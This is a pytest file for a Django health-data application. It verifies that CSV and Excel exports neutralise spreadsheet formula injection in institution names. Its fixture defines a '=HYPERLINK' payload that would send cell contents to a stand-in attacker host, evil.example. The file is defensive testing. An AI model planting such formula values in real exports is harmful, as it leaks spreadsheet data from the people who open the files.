"""Issue 20.5: an institution named `=HYPERLINK(…)` comes out as text, never as a live
formula: neutralised in children.csv, completeness.csv and scorecard.csv, typed as text in the
data-entry template and annual.xlsx. Every CSV and xlsx writer goes through xinglin.lib.cells."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest

from xinglin.documents.tests.conftest import figures_county  # noqa: F401 (a fixture)
from xinglin.lib import cells
from xinglin.network.models import OrgUnit

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
DSK = "640323101001"


@pytest.fixture
def evil(figures_county):  # noqa: F811
    OrgUnit.objects.filter(code=DSK).update(name=EVIL)
    return EVIL


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutral(content: bytes) -> None:
    found = [c for c in _csv_cells(content) if "HYPERLINK" in c]
    assert found, "the institution's name is in the export"
    assert all(c == "'" + EVIL for c in found), found


def _sheet_cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_text_typed(content: bytes) -> None:
    found = [
        c for c in _sheet_cells(content) if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert found, "the institution's name is in the workbook"
    assert all(EVIL in c.value and c.data_type == "s" for c in found)  # names may be joined
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist() if "worksheets" in n)
    assert "<f>" not in xml  # no formula element anywhere


def test_children_csv(evil, alice, client_for):
    _assert_neutral(client_for(alice).get("/network/640323101/children.csv").content)


def test_completeness_csv(evil, alice, client_for):
    url = "/collection/completeness.csv?form=township_health_center.monthly&period=202501"
    _assert_neutral(client_for(alice).get(url).content)


def test_scorecard_csv(evil, alice, client_for):
    url = "/evaluation/scorecard.csv?pack=demo-county-2022&period=2025&orgunit=640323101"
    response = client_for(alice).get(url)
    assert response.status_code == 200
    _assert_neutral(response.content)


def test_data_entry_template(evil, alice, client_for):
    url = "/collection/640323101/2025/template/township_health_center.yearly.xlsx"
    response = client_for(alice).get(url)
    assert response.status_code == 200
    _assert_text_typed(response.content)


def test_annual_xlsx(evil, tmp_path, monkeypatch):
    from xinglin.documents.tests.test_report_command import report

    monkeypatch.setattr("django.db.connections.close_all", lambda: None)
    out = tmp_path / "annual.xlsx"
    assert report("annual", "--orgunit", "640323", "--period", "2025", "--output", str(out)) == 0
    _assert_text_typed(out.read_bytes())


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx"])
def test_the_helper_neutralises_every_trigger(text):
    assert cells.csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["-3.5", "+12", "1e5", "花马池镇", 3, -2.5, None])
def test_the_helper_leaves_values_alone(value):
    assert cells.csv_text(value) == value
